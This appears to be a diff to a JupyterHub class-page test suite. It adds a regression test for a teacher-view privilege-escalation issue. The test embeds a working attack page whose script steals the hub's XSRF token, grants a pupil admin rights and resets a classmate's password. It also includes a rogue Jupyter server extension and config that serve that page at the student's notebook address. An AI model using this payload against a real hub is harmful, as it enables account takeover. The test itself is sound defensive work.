@@ -15,7 +15,8 @@ import requests
 from checks import check
 from class_harness import until_ready
 from hubclient import NOTEBOOK
-from classtest.common import CLASS_HOME, PAGE, STUDENTS, TEACHER, browse, cells_of, put_cells, server_running, table_rows, text
+from classtest.common import (CLASS_HOME, PAGE, STUDENTS, TEACHER, browse, cells_of, put_cells, rust,
+                              server_running, table_rows, text)
 
 
 def progress_and_help(hub, alice, bob, teacher):
@@ -84,31 +85,167 @@ def progress_and_help(hub, alice, bob, teacher):
     check(anonymous.status_code in (302, 403) and "table" not in anonymous.text,
           f"without a login, the class page shows nothing (HTTP {anonymous.status_code})")
 
-    # Help: the teacher opens Bob's notebook from the page, in the browser's way (cookies, the
-    # hub's OAuth); his server is stopped, and starts.
+    # Help: the teacher sees Bob's notebook from the page, as he last saved it, at its exercises:
+    # a copy the class page renders, never his live server (issue 69).
     bob.stop_server()
     browse(teacher, f"{PAGE}/")
     opened = teacher.session.get(f"{hub.url}{PAGE}/help/{bob.name}", allow_redirects=False, timeout=60)
     where = opened.headers.get("Location", "")
-    check(opened.status_code == 302 and where.startswith(f"/hub/spawn/{bob.name}?next=")
-          and f"/user/{bob.name}/lab/tree/notebooks/03-pick-15.ipynb#Exercises" in requests.utils.unquote(where),
-          f"the page's Open link goes to the hub's spawn page, on to the student's notebook at its exercises ({where})")
+    check(opened.status_code == 302 and where == f"{PAGE}/help/{bob.name}/notebooks/03-pick-15.ipynb#Exercises",
+          f"the page's See link goes to the view of the student's notebook, at its exercises ({where})")
+    view = teacher.session.get(f"{hub.url}{where.split('#')[0]}", timeout=60)
+    policy = view.headers.get("Content-Security-Policy", "")
+    check(view.status_code == 200 and policy.startswith("sandbox;") and "allow-scripts" not in policy
+          and "default-src 'none'" in policy and "Pick 15" in view.text and bob.name in view.text,
+          f"... which shows his saved notebook while his server is stopped, under a policy that runs nothing "
+          f"(HTTP {view.status_code}, {policy[:60]!r})")
     log = (CLASS_HOME / "hub" / "class-page.log").read_text() if (CLASS_HOME / "hub" / "class-page.log").exists() else ""
     check(f"{TEACHER}\topened\t{bob.name}\tnotebooks/03-pick-15.ipynb" in log,
           f"... and the opening is logged ({log.strip().splitlines()[-1:] if log else 'no log'})")
-    browse(teacher, where)
-    check(until_ready("the student's server to start from the teacher's click", lambda: server_running(teacher, bob.name), 180),
-          "... the hub starts the student's stopped server")
-    lab = requests.utils.unquote(where.split("next=", 1)[1])
-    page = browse(teacher, lab)
-    check(page.status_code == 200 and page.url.startswith(f"{hub.url}/user/{bob.name}/lab"),
-          f"... and the teacher's own login opens the student's notebook, after the hub's Authorize page "
-          f"(HTTP {page.status_code}, {page.url.replace(hub.url, '')[:70]})")
+    check(not server_running(teacher, bob.name), "... and his server stays stopped")
+    bob.start_server()
+    lab = browse(teacher, f"/user/{bob.name}/lab")
+    check(lab.status_code == 403, f"the teacher's browser cannot open the student's live server (HTTP {lab.status_code})")
     into_teacher = browse(alice, f"/user/{TEACHER}/lab")
     spawn_other = browse(alice, f"/hub/spawn/{bob.name}")
     check(into_teacher.status_code in (403, 404) and spawn_other.status_code in (403, 404),
           f"a student cannot open the teacher's server nor start a classmate's (HTTP {into_teacher.status_code}, "
           f"{spawn_other.status_code})")
+
+
+# What a pupil's page does when it runs in her teacher's browser on the hub's origin: reads the
+# hub's XSRF token from /hub/home with the teacher's cookies, makes her the hub's admin, and gives
+# a classmate a new password through the class page; it says how far it got in the page's title.
+ATTACK_PAGE = """<!doctype html><html><head><title>nothing yet</title></head><body><p>A pupil's page</p>
+<script>
+(async () => {
+  const said = [];
+  try {
+    const home = await (await fetch('/hub/home', {credentials: 'include'})).text();
+    const token = (home.match(/xsrf_token: "([^"]+)"/) || [])[1] || '';
+    const made = await fetch('/hub/api/users/@PUPIL@', {method: 'PATCH', credentials: 'include',
+      headers: {'X-XSRFToken': token, 'Content-Type': 'application/json'}, body: JSON.stringify({admin: true})});
+    said.push('admin ' + made.status);
+    const page = await (await fetch('@PAGE@/', {credentials: 'include'})).text();
+    const xsrf = (page.match(/name="_xsrf" value="([^"]+)"/) || [])[1] || '';
+    const form = new URLSearchParams({_xsrf: xsrf, login: '@CLASSMATE@'});
+    const reset = await fetch('@PAGE@/students/password', {method: 'POST', credentials: 'include', body: form});
+    said.push('password ' + reset.status);
+  } catch (e) { said.push('failed ' + e); }
+  document.title = 'attacked: ' + said.join(', ');
+})();
+</script></body></html>"""
+
+# A Jupyter Server extension of the pupil's own, in her home, that serves ATTACK_PAGE at every
+# address of her server's JupyterLab (her notebook's among them), and her server's config that
+# loads it: what a cell of hers can write.
+ATTACK_EXTENSION = """from tornado import web
+
+PAGE = open(__file__.rsplit("/", 1)[0] + "/page.html").read()
+
+
+class Page(web.RequestHandler):
+    def get(self, *args):
+        self.set_header("Content-Type", "text/html")
+        self.write(PAGE)
+
+
+def _jupyter_server_extension_points():
+    return [{"module": "pupil_page"}]
+
+
+def _load_jupyter_server_extension(app):
+    router = app.web_app.wildcard_router
+    router.add_rules([(app.base_url.rstrip("/") + "/lab/.*", Page)])
+    router.rules.insert(0, router.rules.pop())
+"""
+ATTACK_CONFIG = """import os, sys
+sys.path.insert(0, os.path.expanduser("~/.pupil-page"))
+c.ServerApp.jpserver_extensions.update({"pupil_page": True})
+"""
+
+
+def rust_writes(files):
+    """A Rust cell that writes each (path under $HOME, text) and prints "written"."""
+    lines = ['{', 'let home = std::env::var("HOME").unwrap();']
+    for path, content in files:
+        folder = path.rsplit("/", 1)[0]
+        lines.append(f'std::fs::create_dir_all(format!("{{home}}/{folder}")).unwrap();')
+        lines.append(f'std::fs::write(format!("{{home}}/{path}"), r####"{content}"####).unwrap();')
+    lines += ['println!("written");', '}']
+    return "\n".join(lines)
+
+
+def teachers_browser_acts_for_nobody(hub, alice, bob, teacher):
+    """Issue 69, 1: a pupil who serves a page of her own from her server became the hub's admin
+    when her teacher opened her notebook from the class page. Bob, with what a pupil has (cells
+    in his own kernel, his own login): a server extension and config in his home that serve his
+    page at his notebook's address, the same page as an output in his saved notebook, and his
+    server restarted. The teacher, in Chromium, clicks "See" on the class page and reads the
+    notebook. Afterwards Bob is no admin, Alice's password still opens her account, and the page
+    ran nothing."""
+    from jupyterlab_test import CHROMIUM_ARGS
+    from playwright.sync_api import sync_playwright
+    page_html = (ATTACK_PAGE.replace("@PUPIL@", bob.name).replace("@CLASSMATE@", alice.name)
+                 .replace("@PAGE@", PAGE))
+    said = rust(bob, rust_writes([(".pupil-page/page.html", page_html), (".pupil-page/pupil_page.py", ATTACK_EXTENSION),
+                                  (".jupyter/jupyter_server_config.py", ATTACK_CONFIG)]))
+    cells = cells_of(bob, "notebooks/03-pick-15.ipynb")
+    his = [dict(cell) for cell in cells]
+    cells.append({"cell_type": "code", "execution_count": 1, "id": "pupil-page", "metadata": {}, "source": "page()",
+                  "outputs": [{"output_type": "display_data", "metadata": {},
+                               "data": {"text/html": page_html.split("<body>", 1)[1].split("</body>")[0],
+                                        "text/plain": "page"}}]})
+    saved = put_cells(bob, "notebooks/03-pick-15.ipynb", cells)
+    bob.stop_server()
+    bob.start_server()
+    served = bob.api("GET", f"/user/{bob.name}/lab/tree/notebooks/03-pick-15.ipynb")
+    check(said == "written" and saved == 200 and "A pupil's page" not in served.text,
+          f"a pupil's own Jupyter config and server extension in her home are not loaded by her server "
+          f"({said!r}, saved: HTTP {saved}, her notebook's address: {'her page' if 'A pupil' in served.text else 'JupyterLab'})")
+    admin_before = teacher.api("GET", f"/hub/api/users/{bob.name}").json().get("admin")
+    title, url = "", ""
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=CHROMIUM_ARGS)
+        try:
+            context = browser.new_context(ignore_https_errors=True)
+            page = context.new_page()
+            page.goto(f"{hub.url}/hub/login?next={PAGE}/", timeout=120_000)
+            page.fill("#username_input", teacher.name)
+            page.fill("#password_input", teacher.password)
+            page.click("#login_submit")
+            page.wait_for_selector("#table table", timeout=120_000)
+            with context.expect_page(timeout=60_000) as opened:
+                page.click(f'tr[data-login="{bob.name}"] a[href^="help/"]')
+            shown = opened.value
+            shown.wait_for_load_state("load", timeout=120_000)
+            # The teacher says yes where the hub asks (as b2fe58a's Open made them).
+            if "/hub/api/oauth2/authorize" in shown.url and shown.locator("input[type=submit]").count():
+                shown.locator("input[type=submit]").first.click()
+                shown.wait_for_load_state("load", timeout=120_000)
+            deadline = time.time() + 20
+            while time.time() < deadline and not shown.title().startswith("attacked"):
+                time.sleep(0.5)
+            title, url = shown.title(), shown.url
+            shown.screenshot(path=str(CLASS_HOME / "teacher-sees-a-notebook.png"))
+        finally:
+            browser.close()
+    admin_after = teacher.api("GET", f"/hub/api/users/{bob.name}").json().get("admin")
+    try:
+        hub.student(alice.name).log_in()  # with the password the class gave her
+        alice_logs_in = True
+    except Exception:  # noqa: BLE001 (any failure to log in is the finding)
+        alice_logs_in = False
+    check(not title.startswith("attacked") and "/help/" in url and admin_before is False and admin_after is False
+          and alice_logs_in,
+          f"the teacher reading a pupil's notebook in Chromium runs nothing of hers: she is no admin "
+          f"({admin_before} -> {admin_after}), her classmate's password still opens his account ({alice_logs_in}), "
+          f"the page did nothing ({title!r} at {url.replace(hub.url, '')[:70]})")
+    # Bob's notebook and home as they were, for the tests after this one.
+    put_cells(bob, "notebooks/03-pick-15.ipynb", his)
+    rust(bob, '{ let home = std::env::var("HOME").unwrap(); '
+              'let _ = std::fs::remove_dir_all(format!("{home}/.pupil-page")); '
+              'let _ = std::fs::remove_file(format!("{home}/.jupyter/jupyter_server_config.py")); }')
 
 
 def updates_and_start_over(hub, alice, teacher):
